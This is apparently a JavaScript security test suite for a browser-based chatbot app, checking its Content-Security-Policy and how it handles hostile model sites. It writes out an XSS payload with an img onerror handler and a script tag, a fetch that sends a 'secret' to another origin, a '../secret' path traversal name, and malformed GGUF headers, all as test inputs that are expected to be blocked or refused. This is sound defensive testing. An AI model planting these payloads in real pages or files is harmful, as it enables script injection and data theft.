// What a page must not do, and what a hostile bot must not make it do.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { freshContext } from "./any-browser.mjs";
import { BotPage } from "./bot-page.mjs";
import { dist, launchFirefox, secondOrigin, servedBot, visitor } from "./harness.mjs";

const DOCUMENTS = ["index.html", "embed.html", "engine.html", "bench.html"];
const { bundle, server, browser } = await servedBot();

describe("the policy", () => {
  for (const document of DOCUMENTS) {
    it(`stands in ${document} itself, and no script does`, () => {
      const html = readFileSync(join(dist, document), "utf8");
      assert.match(html, /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'self' 'wasm-unsafe-eval';/);
      for (const [, attributes, text] of html.matchAll(/<script([^>]*)>([^]*?)<\/script>/g)) {
        assert.ok(/ src="\.\//.test(attributes) && text === "", html);
      }
      assert.doesNotMatch(html, / on\w+=/);
    });
  }

  for (const name of ["Chromium", "Firefox"]) it(`lets no script in and nothing out in ${name}, on a host that sends no headers`, async () => {
    const site = await secondOrigin({ root: dist });
    const each = name === "Firefox" ? await launchFirefox() : browser;
    const context = await freshContext(each);
    const page = await context.newPage();
    await page.goto(site.origin);
    const outcome = await page.evaluate(async () => {
      const blocked = [];
      document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
      const script = document.createElement("script");
      script.textContent = "window.ran = true";
      document.body.append(script);
      const image = document.createElement("div");
      image.innerHTML = '<img src="data:," onerror="window.ran = true">';
      document.body.append(image);
      const sent = await fetch("http://other.example/?secret").then(() => true, () => false);
      await new Promise((later) => setTimeout(later, 100));
      return { ran: window.ran ?? false, sent, blocked: [...new Set(blocked)].sort() };
    });
    assert.deepEqual([outcome.ran, outcome.sent], [false, false]);
    assert.ok(outcome.blocked.includes("connect-src"), String(outcome.blocked));
    assert.ok(outcome.blocked.some((directive) => directive.startsWith("script-src")), String(outcome.blocked));
    await context.close();
    if (each !== browser) await each.close();
    site.close();
  });
});

describe("a hostile bot", () => {
  const manifest = () => JSON.parse(readFileSync(join(bundle, "bot.json"), "utf8"));
  /** A site with a given description and weights, by default the real ones. */
  const hostile = (description, weights) =>
    secondOrigin({
      pages: {
        "/bot.json": (_, response) =>
          typeof description === "function" ? description(response) : response.end(JSON.stringify(description)),
        "/model-q8_0.gguf": (_, response) => response.end(weights ?? readFileSync(join(bundle, "model-q8_0.gguf"))),
        "/own.gguf": (_, response) => response.end(weights),
      },
    });
  async function open(site, file = "") {
    const visit = await visitor(browser, [server.origin, site.origin]);
    await visit.page.goto(`${server.origin}/?model=${encodeURIComponent(`${site.origin}/${file}`)}`);
    return { ...visit, bot: new BotPage(visit.page) };
  }

  it("with a script in its name, handle and notice shows them as text", async () => {
    const evil = '<img src=x onerror="window.ran=1"><script>window.ran=1</script>';
    const site = await hostile({ ...manifest(), name: evil, handles: [evil], notice: evil });
    const { page, bot, complaints, leave } = await open(site);
    await bot.seesStatus(/ready/);
    assert.equal(await page.evaluate(() => document.querySelectorAll("img[src=x], main script").length), 0);
    assert.ok((await page.evaluate(() => document.body.textContent)).includes(evil));
    await page.goto(`${server.origin}/embed.html?model=${encodeURIComponent(site.origin)}`);
    await new BotPage(page).seesStatus(/ready/);
    const shadow = await page.evaluate(() => {
      const root = document.querySelector("tweet-bot").shadowRoot;
      return [root.querySelectorAll("img, script").length, root.textContent];
    });
    assert.equal(shadow[0], 0);
    assert.ok(shadow[1].includes(evil));
    assert.equal(await page.evaluate(() => window.ran), undefined);
    assert.deepEqual(complaints, []);
    await leave();
    site.close();
  });

  const entry = (change) => {
    const description = manifest();
    Object.assign(description.files["model-q8_0.gguf"], change);
    return description;
  };
  const header = (...parts) => Buffer.concat([Buffer.from("GGUF"), ...parts]);
  const u32 = (n) => Buffer.from(new Uint32Array([n]).buffer);
  const u64 = (n) => Buffer.from(new BigUint64Array([BigInt(n)]).buffer);
  const endless = (response) => {
    const more = () => {
      while (response.write(Buffer.alloc(1 << 20, 32)));
      response.once("drain", more);
    };
    more();
  };
  const cases = {
    "that names files outside of its folder": [() => [{ ...manifest(), files: { "../secret": { size: 1, sha256: "", chunks: [""] } } }], /which is not a plain file name/],
    "that promises a terabyte": [() => [entry({ size: 2 ** 40 })], /chunk digests for \d+ bytes/],
    "whose description never ends": [() => [endless], /bot\.json is longer than 16 MiB/],
    "whose header promises more tensors than there are bytes": [() => [{}, header(u32(3), u64(2n ** 60n), u64(1)), "own.gguf"], /own\.gguf is not a model that can run here/],
    "whose header promises a string of an exabyte": [() => [{}, header(u32(3), u64(1), u64(1), u64(2n ** 60n)), "own.gguf"], /own\.gguf is not a model that can run here/],
  };
  for (const [name, [make, sentence]] of Object.entries(cases)) {
    it(`${name} is refused with a sentence`, async () => {
      const [description, weights, file] = make();
      const site = await hostile(description, weights);
      const { bot, leave } = await open(site, file);
      await bot.seesAlert(sentence);
      await leave();
      site.close();
    });
  }
});
